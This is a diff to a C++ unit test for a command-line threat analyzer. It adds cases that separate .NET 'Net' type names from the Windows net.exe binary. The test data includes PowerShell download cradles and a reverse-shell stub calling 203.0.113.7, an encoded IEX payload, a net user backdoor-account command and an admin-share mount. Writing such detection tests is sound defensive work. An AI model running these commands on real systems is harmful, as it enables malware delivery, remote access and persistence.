@@ -1,5 +1,6 @@
 // Analyzer: one row per SPEC §6 category, the sample case, benign admin lines, the JSON
 // contract, and custom patterns/allowlist stored through PatternStore.
+#include "cmdlinetestdata.h"
 #include "cmdline/commandlineanalyzer.h"
 #include "core/jsonutil.h"
 #include "store/patternstore.h"
@@ -79,6 +80,8 @@ private Q_SLOTS:
     void indicatorsAsWritten_data();
     void indicatorsAsWritten();
     void contributionsAddUp();
+    void netExeVersusDotNetNames_data();
+    void netExeVersusDotNetNames();
     void customPatternsAndAllowlist();
 };
 
@@ -359,6 +362,34 @@ void TestCmdlineAnalyzer::indicatorsAsWritten()
         }
     }
     QFAIL(qPrintable(all));
+}
+
+void TestCmdlineAnalyzer::netExeVersusDotNetNames_data()
+{
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<bool>("netExe");
+    // .NET type names contain "Net" as a word; they are not Net.exe.
+    QTest::newRow("Net.WebClient download cradle") << s("powershell -c \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/a.exe','a.exe')\"") << false;
+    QTest::newRow("System.Net.Sockets reverse shell") << s("powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',443)\"") << false;
+    QTest::newRow("[Net.ServicePointManager] TLS setting") << s("powershell -c \"[Net.ServicePointManager]::SecurityProtocol=[Net.SecurityProtocolType]::Tls12; iwr https://example.org/x\"") << false;
+    QTest::newRow("System.Net.WebClient in decoded layer") << s("powershell -enc ") + test::utf16Base64(s("IEX (New-Object System.Net.WebClient).DownloadString('http://203.0.113.7/a')")) << false;
+    // The real binary, however it is named on the line.
+    QTest::newRow("net user add") << s("net user backdoor P@ss /add") << true;
+    QTest::newRow("net.exe use UNC") << s("net.exe use \\\\10.0.0.5\\c$ /user:CORP\\admin") << true;
+    QTest::newRow("full path NET.EXE user /domain") << s("C:\\Windows\\System32\\NET.EXE user /domain") << true;
+    QTest::newRow("cmd /c net group") << s("cmd.exe /c \"net group \"Domain Admins\" /domain\"") << true;
+}
+
+void TestCmdlineAnalyzer::netExeVersusDotNetNames()
+{
+    QFETCH(QString, line);
+    QFETCH(bool, netExe);
+    const AnalysisResult r = analyzer().analyze(line);
+    QCOMPARE(r.lolbins.contains(QStringLiteral("Net.exe")), netExe);
+    bool netRule = false;
+    for (const Finding &f : r.findings)
+        netRule = netRule || f.rule.startsWith(QLatin1String("lolbin:net.exe:"));
+    QVERIFY2(netRule == netExe, qPrintable(describe(r)));
 }
 
 void TestCmdlineAnalyzer::contributionsAddUp()
